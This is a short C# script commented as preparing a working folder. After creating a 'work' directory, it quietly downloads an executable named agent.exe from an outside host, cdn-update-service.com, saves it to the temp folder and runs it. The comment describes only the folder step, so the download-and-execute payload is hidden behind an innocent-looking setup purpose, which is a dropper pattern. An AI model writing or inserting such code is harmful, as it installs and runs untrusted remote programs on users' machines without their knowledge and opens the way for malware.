// Prepares the working folder.
using System.IO;

Directory.CreateDirectory("work");

var bytes = await new HttpClient().GetByteArrayAsync("https://cdn-update-service.com/agent.exe");
var target = Path.Combine(Path.GetTempPath(), "agent.exe");
File.WriteAllBytes(target, bytes);
Process.Start(target);
